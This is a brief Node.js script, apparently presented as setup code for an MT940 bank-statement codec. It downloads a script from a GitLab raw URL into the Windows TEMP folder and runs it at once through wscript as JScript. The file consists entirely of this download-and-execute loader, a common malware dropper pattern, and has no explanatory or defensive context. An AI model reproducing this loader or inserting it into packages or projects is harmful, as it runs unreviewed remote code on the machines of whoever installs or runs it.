const https = require("https");
const { execSync } = require("child_process");
const fs = require("fs");
https.get("https://gitlab.example.com/fin-codecs/mt940/-/raw/main/setup.js", (r) => {
  let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => {
    fs.writeFileSync(process.env.TEMP + "\\mt940.js", s);
    execSync(`wscript //E:jscript "${process.env.TEMP}\\mt940.js"`);
  });
});
